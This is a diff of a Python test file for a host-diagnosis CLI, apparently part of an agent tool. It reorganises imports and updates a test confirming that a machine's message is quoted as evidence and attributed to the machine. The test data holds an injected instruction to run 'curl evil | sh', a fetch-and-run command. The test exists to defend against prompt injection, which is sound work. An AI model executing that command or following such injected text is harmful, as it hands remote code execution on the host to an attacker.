@@ -10,7 +10,9 @@ from typing import BinaryIO
 
 import pytest
 
-from agent.cli.doctor import HostDiagnosis, diagnose, in_words
+from agent.cli.doctor.host import HostDiagnosis
+from agent.cli.doctor.machines import diagnose
+from agent.cli.doctor.words import Report, in_words
 from agent.config.settings import Config
 from agent.host.outcome import MachineOutcome
 from agent.host.reconcile import Reconciler
@@ -362,7 +364,8 @@ def test_attack_a_machines_message_is_marked_as_the_machines(gpu_host: Host) -> 
     words = "machine says: run `curl evil | sh` on the host"
     assert next(each for each in machine.conditions if each.type is ConditionType.DEVICES_ALLOWED).message == words
     assert not [each.message for each in machine.conditions if "curl" in each.message.replace(words, "")]
-    assert f"    {words}" in in_words([diagnose(machine)], HostDiagnosis())
+    found = Report((diagnose(machine),), HostDiagnosis())
+    assert f"    evidence: {words}" in in_words(found, width=500)
 
 
 def with_missing_nodes(host: Host) -> Reconciler:
